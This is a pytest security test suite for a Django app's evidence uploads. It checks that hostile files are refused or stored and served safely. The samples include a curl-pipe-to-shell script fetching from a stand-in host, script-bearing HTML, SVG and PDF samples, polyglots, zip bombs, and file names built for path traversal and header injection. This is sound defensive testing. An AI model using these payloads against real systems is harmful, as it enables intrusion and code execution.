"""Hostile evidence uploads: polyglots, programs, zip bombs, empty and oversize files and
dangerous file names, each posted through the progress update page like a real upload.

None is accepted that should not be, none is served as a web page, and nothing lands outside
the storage folder."""

import re
import unicodedata
from dataclasses import dataclass
from functools import partial
from pathlib import Path

import pytest
from django.urls import reverse

from actionplans.models import EvidenceDocument
from tests import evidence_files as files
from tests.actionplans.test_progress_updates import update_data

pytestmark = [pytest.mark.django_db, pytest.mark.security("uploads")]

LIMIT = 4 * 1024 * 1024
PAGE = b"<!DOCTYPE html><html><body><script>fetch('/').then(r => alert(document.cookie))</script></body></html>"
SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.domain)</script></svg>'
PDF_WITH_SCRIPT = (
    b"%PDF-1.4\n1 0 obj << /Type /Catalog /OpenAction 2 0 R >> endobj\n"
    b"2 0 obj << /S /JavaScript /JS (app.alert('hi')) >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
)
WINDOWS_PROGRAM = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff" + bytes(48) + b"PE\x00\x00" + bytes(200)
LINUX_PROGRAM = b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)
SHELL_SCRIPT = b"#!/bin/sh\ncurl http://example.invalid/x | sh\n"
WORD_PARTS = ["[Content_Types].xml", "_rels/.rels", "word/document.xml"]
EXCEL_PARTS = ["[Content_Types].xml", "_rels/.rels", "xl/workbook.xml", "xl/worksheets/sheet1.xml"]
NOT_ACCEPTED = "must be a PDF, a Word or Excel document, or a JPG, PNG or GIF image"
BIDI_AND_CONTROLS = {"Cc", "Cf", "Zl", "Zp"}


@dataclass(frozen=True)
class Attack:
    name: str
    filename: str
    content: object  # bytes, or a function that builds them when the test runs
    accepted_as: str = ""  # the extension it is stored and downloaded as, if it is accepted
    refusal: str = ""  # what the error message says, if it is refused
    label: str = ""  # the label kept for an accepted file

    def body(self) -> bytes:
        return self.content() if callable(self.content) else self.content


ATTACKS = [
    Attack("web page named .pdf", "minutes.pdf", PAGE, refusal=NOT_ACCEPTED),
    Attack("SVG with script named .pdf", "chart.pdf", SVG, refusal=NOT_ACCEPTED),
    Attack("SVG with script named .png", "chart.png", SVG, refusal=NOT_ACCEPTED),
    Attack("SVG with script named .svg", "chart.svg", SVG, refusal=NOT_ACCEPTED),
    Attack("PNG header in front of a web page", "photo.png", files.PNG[:33] + PAGE, refusal=NOT_ACCEPTED),
    Attack("JPG header in front of a web page", "photo.jpg", files.JPEG[:20] + PAGE, refusal=NOT_ACCEPTED),
    Attack("GIF header in front of script", "anim.gif", b"GIF89a/*" + bytes(8) + b"*/=alert(1);", refusal=NOT_ACCEPTED),
    Attack("real PNG with a web page after it", "photo.png", files.PNG + PAGE, accepted_as="png", label="photo.png"),
    Attack("real PNG named .html", "page.html", files.PNG, accepted_as="png", label="page.html"),
    Attack("PDF with JavaScript", "report.pdf", PDF_WITH_SCRIPT, accepted_as="pdf", label="report.pdf"),
    Attack(
        "PDF header in front of a web page", "report.html", files.PDF + PAGE, accepted_as="pdf", label="report.html"
    ),
    Attack("Windows program named .pdf", "minutes.pdf", WINDOWS_PROGRAM, refusal=NOT_ACCEPTED),
    Attack("Windows program named .docx", "minutes.docx", WINDOWS_PROGRAM, refusal=NOT_ACCEPTED),
    Attack("Linux program named .pdf", "minutes.pdf", LINUX_PROGRAM, refusal=NOT_ACCEPTED),
    Attack("Linux program named .docx", "minutes.docx", LINUX_PROGRAM, refusal=NOT_ACCEPTED),
    Attack("shell script", "tidy.sh", SHELL_SCRIPT, refusal=NOT_ACCEPTED),
    Attack("shell script named .pdf", "tidy.pdf", SHELL_SCRIPT, refusal=NOT_ACCEPTED),
    Attack(
        "Word zip bomb (2 GB unpacked)",
        "audit.docx",
        partial(files.zip_bomb, WORD_PARTS, copies=21),
        refusal="audit.docx unpacks to far more than a real document does",
    ),
    Attack(
        "Excel zip bomb (2 GB unpacked)",
        "scores.xlsx",
        partial(files.zip_bomb, EXCEL_PARTS, copies=21),
        refusal="scores.xlsx unpacks to far more than a real document does",
    ),
    Attack(
        "Word file with 5,000 parts",
        "audit.docx",
        partial(files.crowded_zip, WORD_PARTS, extra=5000),
        refusal="audit.docx unpacks to far more than a real document does",
    ),
    Attack("zip that is not Office", "audit.docx", files.office_file(["readme.txt", "run.exe"]), refusal=NOT_ACCEPTED),
    Attack(
        "Word file with macros",
        "audit.docx",
        files.office_file([*WORD_PARTS, "word/vbaProject.bin"]),
        refusal="audit.docx contains macros",
    ),
    Attack(
        "Excel file with macros",
        "scores.xlsx",
        files.office_file([*EXCEL_PARTS, "xl/vbaProject.bin"]),
        refusal="scores.xlsx contains macros",
    ),
    Attack("empty file", "minutes.pdf", b"", refusal="The submitted file is empty"),
    Attack(
        "one byte over the limit",
        "minutes.pdf",
        lambda: files.PDF + bytes(LIMIT + 1 - len(files.PDF)),
        refusal="Evidence files must be smaller than 4 MB",
    ),
    Attack("path up to /etc", "../../etc/passwd.pdf", files.PDF, accepted_as="pdf", label="passwd.pdf"),
    Attack("Windows path up to C:", "..\\..\\boot.ini.pdf", files.PDF, accepted_as="pdf", label="boot.ini.pdf"),
    Attack("NUL in the name", "minutes\x00.html.pdf", files.PDF, accepted_as="pdf", label="minutes.html.pdf"),
    # The multipart encoding itself mangles these two names; what arrives must still be safe.
    Attack("header injection in the name", "minutes\r\nContent-Type: text/html\r\n.pdf", files.PDF, accepted_as="pdf"),
    Attack("right-to-left override", "report\u202efdp.exe", files.PDF, accepted_as="pdf", label="reportfdp.exe"),
    Attack("quote in the name", 'minutes";.pdf', files.PDF, accepted_as="pdf"),
    Attack("markup in the name", "<img src=x onerror=alert(1)>.pdf", files.PDF, accepted_as="pdf"),
    Attack("very long name", "a" * 300 + ".pdf", files.PDF, accepted_as="pdf", label="a" * 146 + ".pdf"),
    Attack("name of only dots", "....", files.PDF, accepted_as="pdf", label="evidence"),
    Attack("Windows reserved name", "CON.pdf", files.PDF, accepted_as="pdf", label="CON.pdf"),
]


def every_file_under(folder: Path) -> set[Path]:
    return {path for path in folder.rglob("*") if path.is_file()}


def problems_with_download(response, attack: Attack) -> list[str]:
    problems = []
    content_type = response["Content-Type"]
    disposition = response["Content-Disposition"]
    if response.status_code != 200:
        problems.append(f"download answered {response.status_code}")
    if "html" in content_type or "svg" in content_type or "xml" in content_type:
        problems.append(f"served as {content_type}")
    if response.get("X-Content-Type-Options") != "nosniff":
        problems.append("no nosniff")
    if not disposition.startswith("attachment;"):
        problems.append(f"not an attachment: {disposition}")
    if "sandbox" not in response.get("Content-Security-Policy", ""):
        problems.append("no sandbox policy")
    saved_as = re.search(r'filename="((?:[^"\\]|\\.)*)"|filename\*=utf-8\'\'(\S+)', disposition)
    name = (saved_as.group(1) or saved_as.group(2)) if saved_as else ""
    if not name.endswith(f".{attack.accepted_as}"):
        problems.append(f"downloads as {disposition!r}")
    if not safe_name(name):
        problems.append(f"unsafe download name {name!r}")
    return problems


def safe_name(name: str) -> bool:
    return not any(character in '/\\"' or unicodedata.category(character) in BIDI_AND_CONTROLS for character in name)


def test_no_hostile_file_is_accepted_served_as_a_web_page_or_stored_outside_the_storage_folder(
    as_user, small, settings, tmp_path, security_figure
):
    media = tmp_path / "media"
    settings.MEDIA_ROOT = media
    settings.EVIDENCE_MAX_BYTES = LIMIT
    lead = as_user(small.users["lead_dbc"])
    url = reverse("actionplans:progress_update_create", args=[small.dbc_action.pk])
    before = every_file_under(tmp_path)
    failures, refused, accepted, served_as_page, outside = [], 0, 0, 0, 0

    for attack in ATTACKS:
        upload = files.upload(attack.filename, attack.body())
        known = set(EvidenceDocument.objects.values_list("pk", flat=True))
        response = lead.post(url, update_data(evidence_files=[upload]))
        new = EvidenceDocument.objects.exclude(pk__in=known)
        if response.status_code >= 500:
            failures.append(f"{attack.name}: server error {response.status_code}")
        elif attack.refusal:
            refused += response.status_code == 400 and not new.exists()
            if response.status_code != 400 or new.exists():
                failures.append(f"{attack.name}: accepted, should be refused")
            elif attack.refusal not in response.content.decode():
                failures.append(f"{attack.name}: refused without saying '{attack.refusal}'")
        elif response.status_code != 302 or new.count() != 1:
            failures.append(f"{attack.name}: refused ({response.status_code}), should be accepted")
        else:
            accepted += 1
            document = new.get()
            stored = Path(document.file.path).resolve()
            if not stored.is_relative_to(media.resolve() / "evidence"):
                outside += 1
                failures.append(f"{attack.name}: stored at {stored}")
            if not stored.name.endswith(f".{attack.accepted_as}") or stored.read_bytes() != attack.body():
                failures.append(f"{attack.name}: stored as {stored.name}, or not byte for byte")
            if attack.label and document.original_name != attack.label or not safe_name(document.original_name):
                failures.append(f"{attack.name}: labelled {document.original_name!r}")
            download = lead.get(reverse("actionplans:evidence_download", args=[document.pk]))
            problems = problems_with_download(download, attack)
            served_as_page += any(problem.startswith("served as") for problem in problems)
            failures.extend(f"{attack.name}: {problem}" for problem in problems)

    page = lead.get(reverse("actionplans:action_detail", args=[small.dbc_action.pk])).content.decode()
    if "<img src=x" in page:
        failures.append("a file name is shown on the action page as markup")
    written = every_file_under(tmp_path) - before
    outside += sum(not path.resolve().is_relative_to(media.resolve() / "evidence") for path in written)
    assert not failures, "\n".join(failures)
    assert outside == 0 and len(written) == accepted
    assert refused + accepted == len(ATTACKS)
    security_figure(
        f"{len(ATTACKS)} hostile files: {refused} refused, {accepted} accepted as safe types, "
        f"{served_as_page} served as HTML, {outside} written outside storage"
    )


def test_a_stored_label_with_line_breaks_and_quotes_still_downloads_under_a_safe_name(
    as_user, small, settings, tmp_path
):
    from django.core.files.base import ContentFile
    from django.core.files.storage import default_storage

    from tests.factories import EvidenceDocumentFactory

    settings.MEDIA_ROOT = tmp_path
    # A label from before names were cleaned, or written by another route than the upload form.
    document = EvidenceDocumentFactory(
        progress_update__action=small.dbc_action,
        file=default_storage.save("evidence/2026/x.pdf", ContentFile(files.PDF)),
        original_name='minutes"\r\nSet-Cookie: sessionid=x\u202e.exe',
        size=len(files.PDF),
        uploaded_by=small.users["lead_dbc"],
    )

    response = as_user(small.users["lead_dbc"]).get(reverse("actionplans:evidence_download", args=[document.pk]))

    assert response.status_code == 200
    assert response["Content-Disposition"] == 'attachment; filename="minutesSet-Cookie: sessionid=x.pdf"'
    assert not response.has_header("Set-Cookie") or "sessionid=x" not in response["Set-Cookie"]
